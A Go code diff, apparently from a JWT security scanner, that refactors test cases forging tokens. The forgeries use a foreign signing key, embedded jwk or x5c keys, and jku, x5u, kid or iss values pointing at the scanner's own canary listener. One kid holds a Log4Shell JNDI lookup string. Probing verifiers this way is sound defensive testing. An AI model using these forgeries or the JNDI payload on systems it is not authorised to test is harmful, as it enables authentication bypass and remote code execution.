@@ -3,6 +3,8 @@ package probe
 import (
 	"encoding/base64"
 	"math/big"
+
+	"m2m/internal/jsonobject"
 )
 
 const (
@@ -12,12 +14,12 @@ const (
 
 // foreignKeyCases are signed, but not with a key of the issuer.
 func foreignKeyCases() []Case {
-	signed := func(alg string, change func(object) object, sign signer) func(*kit) (string, error) {
-		return headed(func(o object) object { return change(o.with("alg", quote(alg))) }, sign)
+	signed := func(alg string, change func(jsonobject.Object) jsonobject.Object, sign signer) func(*kit) (string, error) {
+		return headed(func(o jsonobject.Object) jsonobject.Object { return change(o.With("alg", jsonobject.Quote(alg))) }, sign)
 	}
-	same := func(o object) object { return o }
-	otherKID := func(o object) object { return o.with("kid", quote(ownKID)) }
-	noKID := func(o object) object { return o.without("kid", "x5t", "x5t#S256") }
+	same := func(o jsonobject.Object) jsonobject.Object { return o }
+	otherKID := func(o jsonobject.Object) jsonobject.Object { return o.With("kid", jsonobject.Quote(ownKID)) }
+	noKID := func(o jsonobject.Object) jsonobject.Object { return o.Without("kid", "x5t", "x5t#S256") }
 	order := encode256(orderP256())
 	return forgeries(ForeignKey, Critical, fixForeign,
 		row{"foreign-key", "RS256 with a key of ours and the issuer's kid", signed("RS256", same, ownKey)},
@@ -43,40 +45,40 @@ func encode256(n *big.Int) []byte { return n.FillBytes(make([]byte, 32)) }
 // namedKeyCases bring the key along, or say where it is. Where an address is
 // said, it is that of our listener, so that a fetch is seen.
 func namedKeyCases() []Case {
-	header := func(change func(k *kit, o object) object) func(*kit) (string, error) {
+	header := func(change func(k *kit, o jsonobject.Object) jsonobject.Object) func(*kit) (string, error) {
 		return func(k *kit) (string, error) {
-			return k.forged(change(k, k.header.with("alg", `"RS256"`)).String(), k.payload, ownKey)
+			return k.forged(change(k, k.header.With("alg", `"RS256"`)).String(), k.payload, ownKey)
 		}
 	}
 	address := func(name, member, tail, scheme string) func(*kit) (string, error) {
-		return header(func(k *kit, o object) object {
-			return o.with("kid", quote(ownKID)).with(member, quote(k.canary.lure(scheme, name)+tail))
+		return header(func(k *kit, o jsonobject.Object) jsonobject.Object {
+			return o.With("kid", jsonobject.Quote(ownKID)).With(member, jsonobject.Quote(k.canary.lure(scheme, name)+tail))
 		})
 	}
 	issuer := func(name, scheme string) func(*kit) (string, error) {
 		return func(k *kit) (string, error) {
-			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
-			claims := k.claims.with("iss", quote(k.canary.lure(scheme, name))).String()
+			header := k.header.With("alg", `"RS256"`).With("kid", jsonobject.Quote(ownKID)).String()
+			claims := k.claims.With("iss", jsonobject.Quote(k.canary.lure(scheme, name))).String()
 			return k.forged(header, []byte(claims), ownKey)
 		}
 	}
 	return forgeries(NamedKey, Critical, fixNamed,
-		row{"jwk", "our key in jwk", header(func(k *kit, o object) object {
-			return o.with("jwk", k.ownJWK(ownKID)).with("kid", quote(ownKID))
+		row{"jwk", "our key in jwk", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
+			return o.With("jwk", k.ownJWK(ownKID)).With("kid", jsonobject.Quote(ownKID))
 		})},
-		row{"jwk-same-kid", "our key in jwk, with the issuer's kid", header(func(k *kit, o object) object {
-			return o.with("jwk", k.ownJWK(o.text("kid")))
+		row{"jwk-same-kid", "our key in jwk, with the issuer's kid", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
+			return o.With("jwk", k.ownJWK(o.Text("kid")))
 		})},
-		row{"x5c", "our own certificate in x5c", header(func(k *kit, o object) object {
-			return o.with("x5c", list(base64.StdEncoding.EncodeToString(k.certificate)))
+		row{"x5c", "our own certificate in x5c", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
+			return o.With("x5c", list(base64.StdEncoding.EncodeToString(k.certificate)))
 		})},
 		row{"jku", "jku names our listener, where our key set is", address("jku", "jku", "/keys", "http")},
 		row{"jku-https", "jku names our listener with https", address("jku-https", "jku", "/keys", "https")},
 		row{"x5u", "x5u names our listener, where our certificate is", address("x5u", "x5u", "/certificate.pem", "http")},
 		row{"x5u-https", "x5u names our listener with https", address("x5u-https", "x5u", "/certificate.pem", "https")},
 		row{"kid-url", "the kid is the address of our listener", address("kid-url", "kid", "/keys", "http")},
-		row{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *kit, o object) object {
-			return o.with("kid", quote("${jndi:"+k.canary.lure("ldap", "kid-jndi")+"}"))
+		row{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
+			return o.With("kid", jsonobject.Quote("${jndi:"+k.canary.lure("ldap", "kid-jndi")+"}"))
 		})},
 		row{"iss-url", "iss names our listener, which has discovery and keys", issuer("iss-url", "http")},
 		row{"iss-url-https", "iss names our listener with https", issuer("iss-url-https", "https")},
